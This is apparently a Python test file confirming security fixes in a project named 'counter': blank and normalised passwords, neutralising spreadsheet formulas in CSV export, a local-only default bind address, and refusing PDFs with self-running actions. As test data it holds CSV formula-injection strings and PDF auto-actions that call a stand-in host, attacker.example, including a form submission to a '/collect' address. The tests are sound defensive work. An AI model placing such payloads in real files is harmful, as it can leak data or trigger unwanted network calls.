"""SECURITY.md promises of the second round, each test named after its number."""

from __future__ import annotations

import csv
import io

import pytest

from counter.security import hash_password, verify_password
from counter.services import opendata
from counter.services.accounts import password_problems

# --- 1: passwords ------------------------------------------------------------------------


def test_security_1_a_password_of_spaces_alone_is_refused():
    assert "error.password_blank" in password_problems(" " * 8)
    assert "error.password_blank" in password_problems("\u3000" * 10)  # ideographic spaces
    assert password_problems("une phrase avec des espaces") == []


def test_security_1_passwords_are_normalised_nfkc_before_hashing(cheap_hashing):
    typed_here = "Caf\u00e9 du souk 2026"        # é composed
    typed_elsewhere = "Cafe\u0301 du souk \uff12\uff10\uff12\uff16"  # é decomposed, full-width
    assert verify_password(typed_elsewhere, hash_password(typed_here))
    assert not verify_password("Cafe du souk 2026", hash_password(typed_here))


# --- 34: CSV formulas ----------------------------------------------------------------------


def test_security_34_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    names = ["=HYPERLINK(\"http://x\",\"clic\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
             "Demande normale", "2026-12-01"]
    text = "".join(opendata.csv_chunks(["name"], [{"name": n} for n in names]))
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert cells[:6] == ["'" + n for n in names[:6]]
    assert cells[6:] == names[6:]
    assert not any(cell.startswith(opendata.FORMULA_STARTS) for cell in cells)


def test_security_34_numbers_stay_numbers_in_the_csv():
    text = "".join(opendata.csv_chunks(["days"], [{"days": -1.5}, {"days": 3}]))
    assert text.splitlines()[1:] == ["-1.5", "3"]


# --- the bind address (issue 11, finding 19) -------------------------------------------------


def test_serve_listens_on_this_machine_only_unless_told_otherwise(monkeypatch):
    from counter import cli

    commands = []
    monkeypatch.setattr(cli, "_migrate", lambda args: None)
    monkeypatch.setattr(cli.subprocess, "call", lambda command, **kwargs: commands.append(
        command) or 0)
    for argv in (["serve", "--no-demo"], ["serve", "--no-demo", "--host", "0.0.0.0"]):
        args = cli.build_parser().parse_args(argv)
        assert args.func(args) == 0
    hosts = [command[command.index("--backend-host") + 1] for command in commands]
    assert hosts == ["127.0.0.1", "0.0.0.0"]


# --- 33: PDFs that act by themselves -----------------------------------------------------------


def _pdf_with(where: str, action: dict) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    entries = {NameObject(k): (NameObject(v) if v.startswith("/") else TextStringObject(v))
               for k, v in action.items()}
    target = DictionaryObject(entries)
    if where == "open":
        writer._root_object[NameObject("/OpenAction")] = target
    else:  # a page's additional action, run when the page opens
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): target})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(("where", "action"), [
    ("page", {"/S": "/URI", "/URI": "http://attacker.example/ping"}),
    ("open", {"/S": "/SubmitForm", "/F": "http://attacker.example/collect"}),
    ("open", {"/S": "/GoToR", "/F": "\\\\attacker.example\\share\\x.pdf"}),
    ("open", {"/S": "/GoTo", "/D": "/page1"}),  # even a harmless-looking auto action
])
def test_security_33_pdfs_with_actions_that_run_by_themselves_are_refused(
        where, action, tmp_path):
    from counter.services.documents import DocumentRejected, inspect_file

    path = tmp_path / "auto.pdf"
    path.write_bytes(_pdf_with(where, action))
    with pytest.raises(DocumentRejected) as caught:
        inspect_file(path)
    assert caught.value.code == "error.file_active_content"


def test_security_33_a_pdf_that_opens_at_its_first_page_is_accepted(tmp_path):
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, NameObject

    from counter.services.documents import inspect_file

    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page.indirect_reference, NameObject("/Fit")])
    path = tmp_path / "plain.pdf"
    with path.open("wb") as out:
        writer.write(out)
    assert inspect_file(path).pages == 1
